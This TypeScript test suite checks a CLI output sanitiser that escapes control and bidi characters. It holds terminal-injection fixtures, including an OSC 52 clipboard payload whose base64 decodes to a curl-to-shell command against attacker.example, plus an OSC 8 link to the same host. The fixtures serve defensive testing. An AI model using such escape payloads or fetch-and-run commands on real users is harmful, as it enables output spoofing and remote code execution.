// The one sanitiser for text from outside pdsctl (issue 17, "What to build" 4): every control
// and bidi character visible, TSV fields that keep their columns, JSON that parses to the
// same value, display widths, and tables that cut a long field in linear time.
import { describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { Output, type Column, type OutputMode } from '../../../src/lib/cli/output.js'
import { displayWidth, headToWidth, jsonSafe, tailToWidth, terminalBlock, terminalLine, tsvField, tsvRow } from '../../../src/lib/cli/terminalText.js'
import { truncateMiddle, wrapText } from '../../../src/lib/cli/table.js'

// Every class the issue names: C0 (BEL, CR, NUL), ESC with CSI / OSC 8 / OSC 52 / OSC 0, DEL,
// C1 (CSI as U+009B), the bidi controls, tab and newline.
const HOSTILE: Record<string, string> = {
  csi: 'alice\x1b[2K\x1b[1A\x1b[31mred',
  osc8: '\x1b]8;;https://attacker.example/\x1b\\click\x1b]8;;\x1b\\',
  osc52: '\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo\x07',
  osc0: '\x1b]0;owned\x07title',
  bel: 'ding\x07',
  cr: 'mallory.test\ralice.test',
  nul: 'a\x00b',
  del: 'a\x7fb',
  c1: 'a\u009b31mb\u0085c',
  bidi: 'alice\u202eset.knil\u202c \u2066x\u2069 \u200e\u200f\u061c',
  separators: 'a\u2028b\u2029c',
  tabs: 'a\tb\nc\rd',
}

/** A raw control or bidi character, as any output must never hold one (but its own newlines). */
// eslint-disable-next-line no-control-regex
const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe('terminalLine / terminalBlock', () => {
  test('every escape class becomes a visible escape: nothing raw is left, and the text is still there', () => {
    for (const [name, s] of Object.entries(HOSTILE)) {
      const out = terminalLine(s)
      assert.doesNotMatch(out, RAW_UNSAFE, name)
      assert.doesNotMatch(out, /[\t\n]/, name)
    }
    assert.equal(terminalLine('alice\x1b[31mred'), 'alice\\x1b[31mred')
    assert.equal(terminalLine('x\u202ey'), 'x\\u202ey')
    assert.equal(terminalLine('a\u009bb'), 'a\\x9bb')
    assert.equal(terminalLine('a\x7f'), 'a\\x7f')
    assert.equal(terminalLine('a\tb\nc\rd'), 'a\\tb\\nc\\rd')
    assert.equal(terminalLine('\x1b]52;c;AAAA\x07'), '\\x1b]52;c;AAAA\\x07')
  })

  test('ordinary text is returned as it is (the same string), non-ASCII letters and emoji included', () => {
    for (const s of ['alice.pds.example.com', 'did:plc:abc', 'Zoë 東京 🙂 e\u0301', '']) assert.equal(terminalLine(s), s)
  })

  test('a block keeps its own newlines and tabs, escapes the rest', () => {
    assert.equal(terminalBlock('a\tb\nc\x1b[2Jd\re'), 'a\tb\nc\\x1b[2Jd\\re')
  })

  test('linear: 3 MB of escapes is one pass', () => {
    const big = '\x1b[31m'.repeat(600_000)
    const out = terminalLine(big)
    assert.equal(out.length, big.length + 3 * 600_000)
    assert.doesNotMatch(out, RAW_UNSAFE)
  })
})

describe('TSV', () => {
  test('a field never holds a tab, newline or CR: a row keeps its columns, the same in every command', () => {
    const row = tsvRow(['code\t\nx', 7, null, undefined, ['a\tb', 'c'], true, '\x1b[2K\rz'])
    assert.equal(row.split('\t').length, 7)
    assert.doesNotMatch(row, /[\n\r]/)
    assert.doesNotMatch(row, RAW_UNSAFE)
    assert.equal(row, 'code\\t\\nx\t7\t\t\ta\\tb,c\ttrue\t\\x1b[2K\\rz')
    assert.equal(tsvField(undefined), '')
  })
})

describe('JSON', () => {
  test('C1, DEL, bidi and line separators are \\u escapes in the text; the document parses to the original value', () => {
    const value = { email: Object.values(HOSTILE).join('|') }
    const text = jsonSafe(JSON.stringify(value, null, 2))
    assert.doesNotMatch(text.replace(/\n/g, ''), RAW_UNSAFE)
    assert.deepEqual(JSON.parse(text), value)
    assert.ok(text.includes('\\u202e') && text.includes('\\u009b') && text.includes('\\u007f') && text.includes('\\u2028'))
  })
})

describe('display width', () => {
  test('wide characters count 2, combining marks and format characters 0, emoji 2', () => {
    assert.equal(displayWidth('abc'), 3)
    assert.equal(displayWidth('東京'), 4)
    assert.equal(displayWidth('e\u0301'), 1)
    assert.equal(displayWidth('🙂'), 2)
    assert.equal(displayWidth('ｈｉ'), 4)
    assert.equal(displayWidth('a'.repeat(1000), 10), 11, 'counted only past the cap')
  })

  test('cuts never split a wide character or a surrogate pair, and fit their width', () => {
    assert.equal(headToWidth('東京都', 3), '東')
    assert.equal(tailToWidth('東京都', 3), '都')
    assert.equal(headToWidth('🙂🙂', 3), '🙂')
    assert.equal(tailToWidth('a🙂', 1), '')
    const cut = truncateMiddle('東京都庁舎のメールアドレス@example.com', 12)
    assert.ok(displayWidth(cut) <= 12, cut)
    for (const l of wrapText('東京都庁舎のメールアドレス example 🙂🙂🙂🙂🙂🙂', 7)) assert.ok(displayWidth(l) <= 7, l)
  })

  test('a wrapped cell shows at most the lines asked for, the last ending with …', () => {
    const lines = wrapText('word '.repeat(10_000), 20, 5)
    assert.equal(lines.length, 5)
    assert.ok(lines[4].endsWith('…'), lines[4])
    for (const l of lines) assert.ok(displayWidth(l) <= 20, l)
    assert.deepEqual(wrapText('a b', 10, 5), ['a b'])
  })
})

function capture(mode: OutputMode, columns?: number) {
  let out = ''
  let err = ''
  const o = new Output({ mode, stdout: { write: (s: string) => ((out += s), true), once: () => undefined }, stderr: { write: (s: string) => ((err += s), true) }, columns, color: false })
  return { o, get out() { return out }, get err() { return err } }
}

interface Row { handle: string; email: string; status: string }
const cols: Column<Row>[] = [
  { header: 'HANDLE', value: (r) => r.handle },
  { header: 'EMAIL', value: (r) => r.email },
  { header: 'STATUS', value: (r) => r.status },
]

describe('Output: every path escapes, whatever the command passes', () => {
  const row: Row = { handle: HOSTILE.cr, email: Object.values(HOSTILE).join(' '), status: 'takendown\x1b[2K\ractive' }

  for (const mode of ['table', 'tsv', 'json'] as const) {
    test(`rows (${mode}): no raw control or bidi character, one line per row`, async () => {
      const c = capture(mode, 120)
      if (mode === 'json') await c.o.printJsonArray([[row]])
      else await c.o.printRows([[row]], cols)
      assert.doesNotMatch(c.out.replace(/\n/g, ''), RAW_UNSAFE)
      if (mode === 'tsv') assert.equal(c.out.split('\n').filter(Boolean).length, 1)
      if (mode === 'json') assert.deepEqual(JSON.parse(c.out), [row])
    })
  }

  test('fields, status, warnings, progress and raw writes escape too; a status line is one line', async () => {
    const c = capture('table', 120)
    await c.o.printFields([['email', HOSTILE.osc52], ['handle', HOSTILE.bidi]])
    await c.o.write(`${HOSTILE.csi}\n`)
    await c.o.line(HOSTILE.cr)
    c.o.status(`Checking ${HOSTILE.tabs}`)
    c.o.warn(HOSTILE.osc0)
    c.o.progress(HOSTILE.c1, true)
    assert.doesNotMatch(c.out.replace(/\n/g, ''), RAW_UNSAFE)
    const err = c.err.replace(/\r\x1b\[2K/g, '')
    assert.doesNotMatch(err.replace(/\n/g, ''), RAW_UNSAFE)
    assert.equal(err.split('\n').filter(Boolean).length, 3)
    const t = capture('tsv')
    await t.o.printFields([['email', 'a\tb\nc']])
    await t.o.tsvRows([['x\ty', 'z\n']])
    assert.equal(t.out, 'email\ta\\tb\\nc\nx\\ty\tz\\n\n')
  })

  test('a 3 MB field on a 120-column terminal: one line per row, cut to fit, in linear time', async () => {
    for (const email of ['x'.repeat(3_000_000), ('word '.repeat(600_000)), '東'.repeat(1_500_000), '\x1b'.repeat(3_000_000)]) {
      const c = capture('table', 120)
      await c.o.printRows([[{ handle: 'alice.test', email, status: 'active' }, { handle: 'bob.test', email: 'bob@example.com', status: 'active' }]], cols)
      const lines = c.out.trimEnd().split('\n')
      assert.ok(lines.length <= 1 + 20 + 1, `${lines.length} lines`)
      for (const l of lines) assert.ok(displayWidth(l) <= 120, `${displayWidth(l)} columns`)
      assert.doesNotMatch(c.out.replace(/\n/g, ''), RAW_UNSAFE)
    }
  })
})
